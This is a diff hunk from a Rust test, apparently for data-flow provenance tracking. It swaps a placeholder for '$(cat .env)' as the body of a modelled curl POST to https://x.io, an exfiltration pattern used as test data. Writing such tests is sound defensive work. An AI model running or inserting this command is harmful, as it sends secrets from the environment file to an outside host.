@@ -714,7 +714,7 @@ fn data_flow_provenance() {
                     "curl",
                     "https://x.io",
                     "POST",
-                    payload(&["$T"], &[(&env, false)], &[])
+                    payload(&["$(cat .env)"], &[(&env, false)], &[])
                 )
             ]),
         ),
